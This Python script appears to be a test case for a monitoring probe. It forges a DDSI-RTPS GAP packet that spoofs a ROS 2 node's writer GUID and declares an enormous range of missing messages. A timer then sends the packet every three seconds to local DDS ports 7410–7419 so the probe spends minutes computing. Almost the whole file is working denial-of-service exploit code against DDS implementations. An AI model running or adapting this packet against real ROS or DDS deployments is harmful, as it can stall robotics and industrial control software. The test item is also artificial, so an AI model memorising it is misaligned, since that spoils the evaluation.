"""
Tries: make the probe compute for minutes with one RTPS GAP of 2^40 missing messages.

Stopped by: the limit of processor time, which includes the probe's; the program is responsible for
 what it sends
Deserves: 5 at most
Ends: probe_broken
"""

import socket
import struct
import time

import honest
import rclpy

rclpy.init()
node = honest.TemperaturePublisher()
(rosout,) = node.get_publishers_info_by_topic('/rosout')
gid = bytes(rosout.endpoint_gid)
prefix, writer, anybody = gid[:12], gid[12:16], bytes(4)
# DDSI-RTPS 2.3, 8.3.7.4 and 9.4.5.5: what is absent, then a set of bits that begins behind it.
first, base, bits = (0, 1), (1 << 8, 0), 0
gap = anybody + writer + struct.pack('<iIiII', *first, *base, bits)
packet = b'RTPS\x02\x03\x01\x0f' + prefix + b'\x08\x01' + struct.pack('<H', len(gap)) + gap


def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as gun:
        for port in range(7410, 7420):
            gun.sendto(packet, ('127.0.0.1', port))


node.create_timer(3.0, send)
rclpy.spin(node)
